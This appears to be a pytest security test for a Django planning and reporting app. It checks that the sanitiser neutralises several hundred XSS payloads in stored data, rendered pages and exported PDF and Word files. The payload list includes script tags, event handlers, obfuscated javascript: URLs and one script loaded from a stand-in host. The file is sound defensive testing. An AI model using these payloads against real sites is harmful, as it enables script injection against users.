"""Hostile markup through every narrative field: stored clean, shown inert, absent from documents.

Several hundred generated payloads (script tags, event attributes on many
tags, javascript:/data:/vbscript: URLs in href, src and xlink:href, SVG and
MathML tricks, entity-encoded and mixed-case variants, nested and unclosed
tags) are written through the services into every narrative field of a plan
and a report. In batches: each batch fills every field of many goals,
sections, indicators, activities and budget rows with a different payload,
then checks what was stored, renders the plan and report pages once and
parses them, and extracts the text of the plan's PDF and Word file.
"""

from __future__ import annotations

import html
import io
import itertools
import re
from decimal import Decimal
from html.parser import HTMLParser

import pytest
from django.urls import reverse

from styra.budget.services import budget_row_create
from styra.conftest import add_indicator, add_unit_goal
from styra.decisions.files import plan_file
from styra.followup.models import (
    ActivityFollowUp,
    BudgetFollowUp,
    GoalAssessment,
    ReportSection,
)
from styra.followup.services import (
    activity_status_set,
    assessment_set,
    budget_follow_up_set,
    outcome_record,
    periods_ensure,
    report_open,
    report_section_update,
)
from styra.goals.models import NARRATIVE_FIELDS, Activity, Goal
from styra.goals.services import activity_create, activity_update, goal_update
from styra.indicators.models import Indicator, Outcome, Target
from styra.indicators.services import indicator_update, target_set
from styra.lib.narrative import clean_text
from styra.plans.models import Section
from styra.plans.services import plan_update_header, section_create, section_update

SLOTS = 48  # goals (and sections, indicators, activities, budget rows) per batch

# ---------------------------------------------------------------- the payloads

TAGS = (
    "img", "svg", "body", "iframe", "video", "audio", "source", "details", "input", "a",
    "div", "marquee", "object", "embed", "form", "button", "select", "textarea", "math",
    "style", "link", "meta", "base", "table", "td", "isindex", "keygen", "frameset",
    "image", "animate", "set", "foreignObject", "title", "xmp", "noscript", "template",
)  # fmt: skip
EVENTS = (
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onbegin",
    "onanimationstart", "onpointerenter", "onwheel", "oninput", "onbeforeprint",
)  # fmt: skip
URLS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java&#x09;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)",
    "javascript&colon;alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
)
URL_ATTRIBUTES = ("href", "src", "xlink:href", "action", "formaction", "poster", "background")
TRICKS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script>alert(1)",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=0 y=20>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math href=javascript:alert(1)>x</math>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<base href=javascript:alert(1)//>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<img src="x" onerror="alert(1)"',
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<a href="javas&#99;ript:alert(1)">x</a>',
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<table><td background=javascript:alert(1)>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<div><p><b><i><script>alert(1)</script>",
    "<p>Text<p>mer<b>fet<script>alert(1)</script>",
    "<a href=javascript:alert(1)>klicka",
)


def _variants(core: str) -> list[str]:
    """The payload as written, in upper case, escaped up to four times, and among text."""
    escaped = [core]
    for _ in range(4):
        escaped.append(html.escape(escaped[-1], quote=False))
    numeric = "".join(f"&#{ord(c)};" if c in "<>" else c for c in core)
    return [
        *escaped,
        core.upper(),
        numeric,
        f"Vi ska förbättra bemötandet {core} under året.\n\n- punkt {core}\n- punkt två",
    ]


def payloads() -> list[str]:
    cores = list(TRICKS)
    for tag, event in zip(TAGS, itertools.cycle(EVENTS), strict=False):
        cores.append(f"<{tag} {event}=alert(1)>x</{tag}>")
        cores.append(f'<{tag.upper()} {event.upper()}="alert(1)" src=x>')
    for attribute, url in itertools.product(URL_ATTRIBUTES, URLS):
        tag = {"href": "a", "xlink:href": "svg><a", "action": "form", "formaction": "button"}
        cores.append(f'<{tag.get(attribute, "img")} {attribute}="{url}">x</a>')
    found: list[str] = []
    for core in cores:
        for variant in _variants(core):
            if variant not in found:
                found.append(variant)
    return found


PAYLOADS = payloads()

BENIGN = [
    "Vanlig text om verksamheten.",
    "- en punkt\n- en punkt till",
    "a) ett\nb) två",
    "Stycke ett.\n\nStycke två.",
]

# ---------------------------------------------------------------- what counts as surviving

TAG = re.compile(r"<(?:[a-zA-Z!?]|/[a-zA-Z])")  # where an HTML parser would open a tag
SCRIPT = re.compile(r"<\s*script", re.IGNORECASE)


def survivors(value: str) -> list[str]:
    """What markup is left in a stored or extracted text: a tag of any kind."""
    problems = []
    if SCRIPT.search(value):
        problems.append("<script")
    for match in TAG.finditer(value):
        problems.append(value[match.start() : match.start() + 40])
    return problems


class LiveMarkup(HTMLParser):
    """Collects tags, event attributes, script-like URLs and inline scripts of a page."""

    URL_ATTRIBUTES = {"href", "src", "xlink:href", "action", "formaction", "poster", "srcdoc"}

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.problems: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}={value!r}>")
            if name in self.URL_ATTRIBUTES and value is not None:
                plain = re.sub(r"[\x00-\x20]", "", value).lower()
                if plain.startswith(("javascript:", "vbscript:")) or (
                    plain.startswith("data:") and value != "data:,"  # the site's empty favicon
                ):
                    self.problems.append(f"<{tag} {name}={value!r}>")
        if tag == "script":
            src = dict(attrs).get("src") or ""
            if not src.startswith("/static/"):
                self.problems.append(f"<script src={src!r}>")
            self._in_script = True

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script and data.strip():
            self.problems.append(f"inline script: {data[:40]!r}")


def parse(page: str) -> LiveMarkup:
    parser = LiveMarkup()
    parser.feed(page)
    parser.close()
    return parser


# ---------------------------------------------------------------- the world


@pytest.fixture
def fields(org, chain, plan_a):
    """Enough goals, sections, indicators, activities and rows to hold a batch; a report."""
    goals = [add_unit_goal(chain, org.unit_a, f"M{i}") for i in range(SLOTS)]
    # A heading without text introduces the sections after it, one level down (lib.outline);
    # the baseline has that shape too, since a payload cleaned to nothing leaves one.
    section_create(plan=plan_a, heading="Inledning", text="")
    sections = [section_create(plan=plan_a, heading=f"A{i}", text="") for i in range(SLOTS)]
    indicators = []
    for i, goal in enumerate(goals):
        indicator = add_indicator(goal, org.unit_a, f"I{i}", target="90 %", periodicity="tertial")
        indicators.append(indicator)
    activities = [
        activity_create(goal=goal, owner=org.unit_a, name=f"Akt{i}") for i, goal in enumerate(goals)
    ]
    rows = [
        budget_row_create(plan=plan_a, name=f"Rad{i}", costs=Decimal(100)) for i in range(SLOTS)
    ]
    periods = {p.code[-2:]: p for p in periods_ensure(year=chain.year)}
    report = report_open(org_unit=org.unit_a, period=periods["T1"])
    report_sections = list(ReportSection.objects.filter(report=report))
    for i in range(len(report_sections), SLOTS):
        report_sections.append(ReportSection.objects.create(report=report, heading=f"R{i}"))
    return dict(
        plan=plan_a,
        goals=goals,
        sections=sections,
        indicators=indicators,
        activities=activities,
        rows=rows,
        report=report,
        report_sections=report_sections,
        unit=org.unit_a,
    )


def store_batch(f: dict, batch: list[str]) -> None:
    """Write the batch's payloads through the services, a different one into every field."""
    pick = itertools.cycle(batch)
    plan_update_header(
        plan=f["plan"], officer=next(pick), phone="", addressee=next(pick), meeting_date=None
    )
    for i in range(SLOTS):
        goal, indicator, activity = f["goals"][i], f["indicators"][i], f["activities"][i]
        goal_update(
            goal=goal, title=f"M{i} {next(pick)}", **{n: next(pick) for n in NARRATIVE_FIELDS}
        )
        section_update(section=f["sections"][i], heading=f"A{i} {next(pick)}", text=next(pick))
        indicator_update(indicator=indicator, description=next(pick))
        target_set(indicator=indicator, org_unit=f["unit"], text=next(pick))
        activity_update(activity=activity, name=f"Akt{i} {next(pick)}", start=None, end=None)
        outcome_record(
            indicator=indicator, org_unit=f["unit"], period="2026T1", value="5", comment=next(pick)
        )
        assessment_set(
            report=f["report"],
            goal=goal,
            value="partly",
            proposed="",
            reason=next(pick),
            analysis=next(pick),
        )
        activity_status_set(
            report=f["report"], activity=activity, status="started", comment=next(pick)
        )
        budget_follow_up_set(
            row=f["rows"][i],
            period="2026T1",
            outcome=Decimal(1),
            forecast=Decimal(50),
            comment=next(pick),
        )
        budget_follow_up_set(
            row=f["rows"][i], period="2026M03", outcome=None, forecast=None, comment=next(pick)
        )
        report_section_update(section=f["report_sections"][i], text=next(pick))


def stored_values(f: dict) -> dict[str, str]:
    """Every narrative value as the database holds it, labelled by model, field and pk."""
    values = {}
    plan = f["plan"]
    plan.refresh_from_db()
    values["plan.officer"], values["plan.addressee"] = plan.officer, plan.addressee
    for goal in Goal.objects.filter(owner=f["unit"]):
        for name in ("title", *NARRATIVE_FIELDS):
            values[f"goal.{name}.{goal.pk}"] = getattr(goal, name)
    for s in Section.objects.filter(plan=plan):
        values[f"section.heading.{s.pk}"], values[f"section.text.{s.pk}"] = s.heading, s.text
    for i in Indicator.objects.filter(owner=f["unit"]):
        values[f"indicator.description.{i.pk}"] = i.description
    for t in Target.objects.filter(org_unit=f["unit"]):
        values[f"target.text.{t.pk}"] = t.text
    for a in Activity.objects.filter(owner=f["unit"]):
        values[f"activity.name.{a.pk}"] = a.name
    for o in Outcome.objects.filter(org_unit=f["unit"]):
        values[f"outcome.comment.{o.pk}"] = o.comment
    for a in GoalAssessment.objects.filter(report=f["report"]):
        values[f"assessment.reason.{a.pk}"], values[f"assessment.analysis.{a.pk}"] = (
            a.reason,
            a.analysis,
        )
    for a in ActivityFollowUp.objects.filter(report=f["report"]):
        values[f"activity_follow_up.comment.{a.pk}"] = a.comment
    for b in BudgetFollowUp.objects.filter(row__budget__plan=plan):
        values[f"budget_follow_up.comment.{b.pk}.{b.period}"] = b.comment
    for s in ReportSection.objects.filter(report=f["report"]):
        values[f"report_section.text.{s.pk}"] = s.text
    return values


def docx_text(data: bytes) -> str:
    import docx

    document = docx.Document(io.BytesIO(data))
    parts = [p.text for p in document.paragraphs]
    for table in document.tables:
        parts.extend(cell.text for row in table.rows for cell in row.cells)
    for section in document.sections:
        parts.extend(p.text for p in section.header.paragraphs)
        parts.extend(p.text for p in section.footer.paragraphs)
    return "\n".join(parts)


def pdf_text(data: bytes) -> str:
    from pypdf import PdfReader

    return "\n".join(page.extract_text() or "" for page in PdfReader(io.BytesIO(data)).pages)


# ---------------------------------------------------------------- the tests


def test_there_are_at_least_500_distinct_payloads():
    assert len(PAYLOADS) >= 500
    assert len(set(PAYLOADS)) == len(PAYLOADS)


def test_the_sanitiser_leaves_no_markup_in_any_payload():
    left = {p: survivors(clean_text(p)) for p in PAYLOADS}
    assert not {p: s for p, s in left.items() if s}


def test_no_payload_survives_storage_page_or_document(client, editor_a, fields):
    client.force_login(editor_a)
    plan, report = fields["plan"], fields["report"]
    per_batch = SLOTS * 14 + 2
    # The elements the pages have with ordinary text everywhere; a payload may add none.
    store_batch(fields, BENIGN * per_batch)
    baseline_plan = parse(client.get(reverse("plans:detail", args=[plan.pk])).content.decode())
    baseline_report = parse(
        client.get(reverse("followup:report", args=[report.pk])).content.decode()
    )
    stored, pages, documents, checked = [], [], [], 0
    for start in range(0, len(PAYLOADS), per_batch):
        batch = PAYLOADS[start : start + per_batch]
        batch += PAYLOADS[: per_batch - len(batch)]  # the last batch is topped up from the start
        store_batch(fields, batch)
        for label, value in stored_values(fields).items():
            checked += 1
            if survivors(value):
                stored.append(f"{label}: {value[:80]!r}")
        for name, url, baseline in (
            ("plan page", reverse("plans:detail", args=[plan.pk]), baseline_plan),
            ("report page", reverse("followup:report", args=[report.pk]), baseline_report),
        ):
            response = client.get(url)
            assert response.status_code == 200
            page = parse(response.content.decode())
            pages.extend(f"{name}: {p}" for p in page.problems)
            pages.extend(f"{name}: new element <{t}>" for t in page.tags - baseline.tags)
        for fmt, extract in (("pdf", pdf_text), ("docx", docx_text)):
            text = extract(plan_file(plan, fmt))
            assert "Akt47" in text  # the goals and their activities are in the document
            documents.extend(f"{fmt}: {s!r}" for s in survivors(text))
    assert checked > len(PAYLOADS)
    report = [
        ("markup stored", stored),
        ("live markup on a page", pages),
        ("markup in the plan's PDF or Word file", documents),
    ]
    assert not (stored or pages or documents), "\n".join(
        f"{title} ({len(found)}):\n  " + "\n  ".join(found[:20]) for title, found in report if found
    )


@pytest.mark.parametrize("times", [5, 6, 8])
def test_markup_escaped_many_times_over_does_not_come_back_as_markup(times):
    """clean_text unescapes once per round for five rounds; a sixth level must not be live."""
    payload = "<script>alert(1)</script><img src=x onerror=alert(1)>"
    for _ in range(times):
        payload = html.escape(payload, quote=False)
    assert survivors(clean_text(payload)) == []


def test_text_that_only_looks_like_a_tag_is_kept_on_the_page_and_in_the_documents(
    client, editor_a, plan_a
):
    """What the sanitiser keeps as text reaches every reader as text, not lost or live."""
    text = "Skriv <ange datum> och fråga Anna <anna@example.se> om a<b och c>d."
    section_create(plan=plan_a, heading="Inledning", text=text)
    client.force_login(editor_a)
    page = client.get(reverse("plans:detail", args=[plan_a.pk])).content.decode()
    assert "Skriv &lt;ange datum&gt; och fråga Anna &lt;anna@example.se&gt;" in page
    for fmt, extract in (("pdf", pdf_text), ("docx", docx_text)):
        words = " ".join(extract(plan_file(plan_a, fmt)).split())
        assert "<ange datum>" in words and "<anna@example.se>" in words, fmt
        assert "a<b och c>d" in words, fmt
